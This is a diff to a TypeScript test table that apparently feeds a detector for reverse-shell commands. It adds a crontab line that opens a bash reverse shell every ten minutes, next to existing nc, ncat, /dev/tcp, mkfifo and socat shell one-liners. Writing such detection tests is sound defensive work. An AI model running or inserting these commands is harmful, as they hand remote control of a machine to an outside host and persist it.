@@ -29,6 +29,8 @@ const shells: Array<[string, Shell, string]> = [
   ['nc 203.0.113.7 4444 -e /bin/sh', 'bash', 'shell.netcat-exec'],
   ['ncat --sh-exec "/bin/bash" -l 4444', 'bash', 'shell.netcat-exec'],
   ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'bash', 'shell.dev-tcp'],
+  // A cron line printed into crontab that opens a reverse shell.
+  ['(crontab -l; echo "*/10 * * * * bash -c \'bash -i >& /dev/tcp/203.0.113.30/8443 0>&1\'") | crontab -', 'bash', 'shell.dev-tcp'],
   ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f', 'bash', 'shell.fifo-loop'],
   ['socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr', 'bash', 'shell.socat-exec'],
   [
